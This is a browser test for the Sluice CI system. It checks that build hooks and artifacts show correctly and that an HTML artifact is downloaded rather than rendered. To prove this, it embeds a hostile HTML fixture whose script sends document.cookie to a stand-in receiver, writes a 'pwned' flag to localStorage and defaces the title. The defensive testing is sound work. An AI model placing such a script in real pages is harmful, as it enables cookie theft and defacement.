/**
 * A build's hooks and artifacts in a real browser (Debian's chromium, never downloaded), on a
 * real build of a whole Sluice: the build page shows the hooks, the workers' notes and the
 * artifacts, and follows a hook that starts and ends after the build did without a reload; an
 * HTML artifact whose script would call out is downloaded as an attachment, from the build
 * page and from the report, and its script never runs in Sluice's origin.
 *
 * Artifacts are put in place by calling collectArtifacts on a directory made here (the
 * runner's own call after each worker's tests is tested with the runner).
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { collectArtifacts } from '../../src/steps/artifacts';
import type { StoreSettings } from '../../src/config';
import { finishHook, startHook } from '../../src/db/sessionHooks';
import { markWorkerReady, recordWorkerStep } from '../../src/db/sessionWorkers';
import { openStore } from '../../src/store';
import { describeWithBrowser, openBrowser, signIn, type Browser } from '../support/browser';
import { startReceiver, type Receiver } from '../support/receiver';
import { script, World } from '../support/world';
import { pgBuildRecords } from '../../src/db/buildRecords';

describeWithBrowser('web-artifacts.test.ts')('hooks and artifacts on the web pages', () => {
  let w: World;
  let browser: Browser;
  let spy: Receiver;
  let work: string;
  const storeSettings = (): StoreSettings => ({ kind: 'dir', dir: path.join(work, 'store') });

  beforeAll(async () => {
    work = await mkdtemp(path.join(os.tmpdir(), 'sluice-web-artifacts-'));
    w = await World.start();
    // This Sluice's API reads artifacts from a store of this test's own.
    w.sluice.config.store = storeSettings();
    spy = await startReceiver();
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await spy?.close();
    await w?.stop();
    if (work) await rm(work, { recursive: true, force: true });
  });

  it('lists hooks, notes and artifacts, follows a late hook live, and downloads HTML as an attachment that never runs', async () => {
    const { page, screenshots } = browser;
    // What a hostile test could leave as an artifact: a page that, run in Sluice's origin, would
    // reach a server of the attacker's, read what the origin keeps and deface it.
    const evil = [
      '<!doctype html><title>coverage</title>',
      '<script>',
      "let cookie = ''; try { cookie = document.cookie; } catch (e) { cookie = 'none'; }",
      `fetch(${JSON.stringify(`${spy.url}/ran?cookie=`)} + encodeURIComponent(cookie), { mode: 'no-cors' });`,
      "try { localStorage.setItem('pwned', '1'); } catch (e) {}",
      "document.title = 'PWNED';",
      '</script>',
      `<img src=${JSON.stringify(`${spy.url}/img`)}>`,
    ].join('\n');

    // Control: the same page, where scripts may run, does call out; so silence below means something.
    await page.setContent(evil);
    await spy.waitFor((reqs) => reqs.some((r) => r.path.startsWith('/hook/ran')) && reqs.some((r) => r.path === '/hook/img'), 10_000);
    expect(await page.title()).toBe('PWNED');
    spy.requests.length = 0;

    const repo = await w.makeRepo({ 'ok_test.sh': script('echo fine') }, { suite: { branch: 'master', test_pattern: '*_test.sh' } });
    const build = await w.build(repo);
    expect((await w.eventsOf(build.session)).at(-1)).toMatchObject({ status: 'passed' });

    const pool = w.sluice.pool;
    const setup = await startHook(pool, { sessionId: build.session, name: 'package_setup', worker: 1, command: 'npm ci', detail: 'detected: package-lock.json', runner: 'runner-1' });
    await finishHook(pool, setup, { status: 'passed', exitCode: 0, durationMs: 4321, output: `added 97 packages <b>not bold</b>\n${'npm notice\n'.repeat(20)}done` });
    const workerSetup = await startHook(pool, { sessionId: build.session, name: 'worker_setup', worker: 1, command: './script/db-schema', detail: null, runner: 'runner-1' });
    await finishHook(pool, workerSetup, { status: 'passed', exitCode: 0, durationMs: 250, output: 'schema loaded' });
    await recordWorkerStep(pool, build.session, 1, 'runner-1', { package_setup: Date.now() / 1000 }, ['cache: restored from master (12.0 MiB)', 'services: postgresql']);
    await markWorkerReady(pool, build.session, 1, 'runner-1');
    const tree = path.join(work, 'checkout');
    await mkdir(path.join(tree, 'coverage'), { recursive: true });
    await writeFile(path.join(tree, 'coverage', 'index.html'), evil);
    await writeFile(path.join(tree, 'coverage', 'lcov.info'), 'TN:\nend_of_record\n');
    const kept = await collectArtifacts(
      { records: pgBuildRecords(pool, Buffer.alloc(32)), store: openStore(storeSettings()), limits: { maxFileBytes: 1 << 20, maxBuildBytes: 1 << 24 } },
      { sessionId: build.session, worker: 1, tree, patterns: ['coverage/**'] },
    );
    expect(kept).toMatchObject({ files: 2, notes: [] });

    await signIn(page, w.sluice.url, 'Ada', w.sluice.config.adminToken);
    await page.goto(`${w.sluice.url}/builds/${build.session}`);
    const hooks = page.locator('[data-hooks] > li');
    await expect(hooks.count()).resolves.toBe(2);
    await expect(hooks.nth(0).textContent()).resolves.toMatch(/package_setup\s*·\s*worker 1\s*·\s*passed\s*·\s*exit code 0\s*·\s*4\.3 s/);
    await expect(hooks.nth(0).textContent()).resolves.toContain('detected: package-lock.json');
    // The output is there, collapsed, and shown as text.
    const output = hooks.nth(0).locator('details');
    await expect(output.getAttribute('open')).resolves.toBeNull();
    await output.locator('summary').click();
    await expect(output.locator('pre').textContent()).resolves.toContain('added 97 packages <b>not bold</b>');
    await expect(page.locator('[data-workers]').textContent()).resolves.toMatch(/worker 1\s+on runner-1:\s+ready[\s\S]*cache: restored from master \(12\.0 MiB\)[\s\S]*services: postgresql/);
    const artifacts = page.locator('[data-artifacts] tr');
    await expect(artifacts.count()).resolves.toBe(2);
    await expect(artifacts.nth(0).textContent()).resolves.toMatch(/coverage\/index\.html\s*1\s*\d+ B/);

    // A post_build hook starts after the build ended: the page shows it running, then its end, without a reload.
    const late = await startHook(pool, { sessionId: build.session, name: 'post_build', worker: null, command: './script/notify', detail: null, runner: 'runner-1' });
    await hooks.nth(2).waitFor({ timeout: 15_000 });
    await expect(hooks.nth(2).textContent()).resolves.toMatch(/post_build\s*·\s*the build\s*·\s*running\s*·\s*running/);
    await screenshots('build-hooks-running');
    await finishHook(pool, late, { status: 'failed', exitCode: 3, durationMs: 1500, output: 'could not notify' });
    await page.locator('[data-hooks] > li:nth-child(3) .status-failed').waitFor({ timeout: 15_000 });
    await expect(hooks.nth(2).textContent()).resolves.toMatch(/post_build\s*·\s*the build\s*·\s*failed\s*·\s*exit code 3\s*·\s*1\.5 s/);
    // The output opened above stayed open through the updates.
    await expect(output.getAttribute('open')).resolves.toBe('');
    await screenshots('build-hooks-artifacts');

    // The HTML artifact from the build page: a download, the page stays where it was.
    const buildPage = page.url();
    const [download] = await Promise.all([page.waitForEvent('download'), artifacts.nth(0).locator('a').click()]);
    expect(download.suggestedFilename()).toBe('index.html');
    expect(await readFile((await download.path())!, 'utf8')).toBe(evil);
    expect(page.url()).toBe(buildPage);

    // Opened directly, as a link someone was sent: still a download, never a page.
    const direct = new URL((await artifacts.nth(0).locator('a').getAttribute('href'))!, w.sluice.url).toString();
    const [again] = await Promise.all([page.waitForEvent('download'), page.goto(direct).catch(() => null)]);
    expect(again.suggestedFilename()).toBe('index.html');

    // And from the report page, opened by its token.
    const view = await w.session(build.session);
    await page.goto(view.url as string);
    await expect(page.locator('h2', { hasText: 'Hooks' }).isVisible()).resolves.toBe(true);
    await screenshots('report-hooks-artifacts');
    const reportLink = page.locator('a', { hasText: 'coverage/index.html' });
    const [fromReport] = await Promise.all([page.waitForEvent('download'), reportLink.click()]);
    expect(fromReport.suggestedFilename()).toBe('index.html');

    // Even framed by a page of Sluice's own origin (one without the pages' CSP, which forbids frames), it does not render there.
    await page.goto(`${w.sluice.url}/healthz`);
    const framed = page.waitForEvent('download');
    // (Strings: the browser's globals are not in this file's types.)
    await page.evaluate(`document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(direct)} }))`);
    await framed;
    expect(await page.evaluate("localStorage.getItem('pwned')")).toBeNull();
    await page.goto(`${w.sluice.url}/builds/${build.session}`);
    expect(await page.title()).toMatch(/^Build #\d+/);

    // Nothing of it ran: the receiver heard nothing, and Sluice's origin has no trace of it.
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(spy.requests.map((r) => r.path)).toEqual([]);
    expect(await page.evaluate("localStorage.getItem('pwned')")).toBeNull();
    for (const frame of page.frames()) expect(await frame.title().catch(() => '')).not.toBe('PWNED');
  });
});
